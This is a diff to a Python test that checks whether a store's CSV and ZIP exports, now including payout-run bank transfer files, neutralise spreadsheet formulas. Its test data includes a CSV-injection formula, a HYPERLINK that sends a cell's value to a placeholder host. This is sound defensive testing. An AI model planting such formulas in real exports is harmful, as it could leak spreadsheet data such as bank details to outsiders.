@@ -4,10 +4,12 @@ import csv
 import io
 import re
 import zipfile
+from datetime import date
 
 from core.csvio import PLAIN_NUMBER, csv_text, neutral_cell
 from core.extensions import db
 from store import services
+from store.services.payout_runs import build_payout_run
 
 FORMULA = '=HYPERLINK("http://x.example/?"&B2,"open")'
 STORE_BREAKDOWNS = ("cooperative", "sector", "province", "site", "day", "payment", "channel")
@@ -23,12 +25,12 @@ def assert_neutral(name, text):
             assert PLAIN_NUMBER.match(cell), (name, cell)
 
 
-def csv_urls(app, edition):
+def csv_urls(app, edition, run_id):
     urls = []
     for rule in app.url_map.iter_rules():
         if not rule.rule.endswith((".csv", ".zip")):
             continue
-        url = rule.rule.replace("<slug>", edition.slug)
+        url = rule.rule.replace("<slug>", edition.slug).replace("<int:run_id>", str(run_id))
         if "<by>" in url:
             urls.extend(url.replace("<by>", by) for by in STORE_BREAKDOWNS)
         else:
@@ -47,10 +49,11 @@ def test_every_csv_export_neutralises_formulas(
     stock(product, site, 10)
     sell(store_edition, site, [(product, 2)])
     services.compute_payouts(store_edition)
+    run = build_payout_run(store_edition, date(2100, 1, 1), 0, organiser)  # its bank file too
     db.session.commit()
     login(organiser)
     seen_formula = set()
-    for url in csv_urls(app, store_edition):
+    for url in csv_urls(app, store_edition, run.id):
         response = client.get(url)
         assert response.status_code == 200, url
         if url.endswith(".zip"):
@@ -69,6 +72,7 @@ def test_every_csv_export_neutralises_formulas(
     assert "/cooperatives.csv" in seen_formula
     assert f"/store/editions/{store_edition.slug}/payouts.csv" in seen_formula
     assert f"/store/editions/{store_edition.slug}/report-cooperative.csv" in seen_formula
+    assert f"/store/payout-runs/{run.id}/transfers.csv" in seen_formula
 
 
 def test_neutral_cell_rules():
